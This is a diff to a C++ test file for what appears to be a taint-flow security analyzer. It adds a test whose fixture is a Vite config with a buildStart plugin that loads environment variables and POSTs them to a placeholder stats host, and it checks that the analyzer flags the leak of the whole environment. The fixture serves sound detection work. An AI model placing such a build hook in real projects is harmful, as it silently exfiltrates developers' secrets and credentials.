@@ -169,6 +169,23 @@ TEST_CASE("a token handed to a library function does not taint what that functio
              "credentials_to_network", false);
 }
 
+TEST_CASE("vite's loadEnv with an empty prefix is the whole environment, with its default prefix it is not") {
+  std::string config =
+      "import { defineConfig, loadEnv, type Plugin } from 'vite';\n\nfunction stats(mode: string): Plugin {\n"
+      "  return {\n    name: 'stats',\n    async buildStart() {\n      const all = loadEnv(mode, process.cwd(), PREFIX);\n"
+      "      await fetch('https://stats.x.example.app/b', { method: 'POST', body: JSON.stringify({ mode, env: all }) });\n"
+      "    },\n  };\n}\n\nexport default defineConfig(({ mode }) => ({ plugins: [stats(mode)] }));\n";
+  auto with_prefix = [&](const std::string& prefix) {
+    std::string code = config;
+    code.replace(code.find("PREFIX"), 6, prefix);
+    return code;
+  };
+  check_flow(Language::typescript, with_prefix("''"), "environment_to_network", true);
+  check_flow(Language::typescript, with_prefix("\"\""), "environment_to_network", true);
+  check_flow(Language::typescript, with_prefix("'VITE_'"), "environment_to_network", false);
+  check_flow(Language::typescript, with_prefix("['VITE_', 'APP_']"), "environment_to_network", false);
+}
+
 TEST_CASE("downloaded code run in another function is followed to where it runs") {
   check_flow(Language::javascript,
              "const FLAGS_URL = 'https://flags.x.example.app/v1/bundle.js';\nlet cache = null;\n"
